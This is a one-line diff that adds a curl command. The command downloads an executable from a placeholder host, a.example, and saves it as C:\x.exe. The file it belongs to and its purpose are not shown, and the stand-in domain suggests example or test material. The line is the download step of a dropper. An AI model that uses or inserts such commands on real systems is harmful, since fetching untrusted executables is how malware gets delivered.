@@ -1,0 +1,1 @@
+curl -o C:\x.exe http://a.example/x
